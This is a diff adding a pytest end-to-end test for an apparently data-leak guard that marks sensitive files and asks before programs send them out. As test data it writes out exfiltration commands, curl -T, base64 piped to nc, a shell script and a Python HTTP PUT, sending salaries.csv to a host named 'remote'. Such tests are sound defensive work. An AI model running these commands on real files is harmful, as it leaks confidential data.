@@ -1,0 +1,88 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""The whole way once: a file is marked, programs try to send it, questions are answered, the answers hold."""
+
+import pytest
+
+UPLOAD = "curl -sS -m 90 -T {} http://remote/"
+
+
+def upload(path="salaries.csv"):
+    """The shell command that sends a file with curl."""
+    return UPLOAD.format(path)
+
+
+def check_arrival(scene, verdict):
+    """What the remote host received is what the verdict says."""
+    if verdict == "allow":
+        scene.assert_all_arrived()
+    elif verdict == "scrub":
+        scene.assert_scrubbed_arrived()
+    else:
+        scene.assert_nothing_leaked()
+
+
+@pytest.mark.parametrize("verdict", ["block", "scrub", "allow", "quit"])
+def test_curl(scene, verdict):
+    """curl -T of a marked file asks; each verdict does what it says."""
+    scene.label()
+    question, done = scene.send_and_answer(upload(), verdict)
+    assert question["executable"] == "/usr/bin/curl" and question["file"] == scene.file
+    assert (question["host"], question["port"]) == ("remote", 80)
+    assert (done.returncode == 0) == (verdict in ("scrub", "allow")), done.stderr
+    check_arrival(scene, verdict)
+    assert scene.decisions() == [("answered", verdict)]
+
+
+def test_unlabelled_is_not_asked(scene):
+    """curl of a file that is not marked sends it unasked."""
+    done = scene.run(upload())
+    assert done.returncode == 0, done.stderr
+    scene.assert_all_arrived()
+    scene.assert_unasked()
+
+
+def test_local_use_is_not_asked(scene):
+    """Programs that only read a marked file run as ever. What they print stays in the guest: ssh would carry it out."""
+    command = "{ sha256sum salaries.csv; wc salaries.csv; sort salaries.csv; } >"
+    assert scene.run(command + "before").returncode == 0
+    scene.label()
+    assert scene.run(command + "after").returncode == 0
+    assert scene.run("cmp before after && ! cmp before salaries.csv >differences").returncode == 0
+    scene.assert_unasked()
+
+
+WAYS = {
+    "pipe": "base64 salaries.csv | nc -N -w 5 remote 9",
+    "copy": f"cp salaries.csv copy && {upload('copy')}",
+    "script": "./backup.sh",
+    "python": "python3 send.py",
+}
+FILES = {
+    "backup.sh": "#!/bin/sh\ndata=$(cat salaries.csv)\nfor try in 1; do\n  printf '%s\\n' \"$data\" | nc -N -w 5 remote 9\ndone\n",
+    "send.py": "import http.client\n"
+               "connection = http.client.HTTPConnection('remote', timeout=90)\n"
+               "connection.request('PUT', '/salaries', body=open('salaries.csv', 'rb').read())\n"
+               "print(connection.getresponse().status)\n",
+}
+
+
+@pytest.mark.parametrize("verdict", ["block", "allow"])
+@pytest.mark.parametrize("way", WAYS)
+def test_ways(scene, way, verdict):
+    """The label goes with the data: through a pipe, a copy, a shell script, Python."""
+    for name, content in FILES.items():
+        scene.guest.write(f"{scene.folder}/{name}", content, user="anna")
+    scene.guest.run(f"chmod +x {scene.folder}/backup.sh", check=True)
+    scene.label()
+    question, _ = scene.send_and_answer(WAYS[way], verdict)
+    assert question["host"] == "remote"
+    check_arrival(scene, verdict)
+
+
+def test_copy_is_marked(scene):
+    """A copy carries the label of what it was copied from, and says that it is derived."""
+    scene.label()
+    scene.run("cp salaries.csv copy; tr a-z A-Z <salaries.csv >shout; echo public >other")
+    assert scene.tacet.categories(f"{scene.folder}/copy") == ["finance"]
+    assert scene.tacet.categories(f"{scene.folder}/shout") == ["finance"]
+    assert scene.tacet.categories(f"{scene.folder}/other") == []
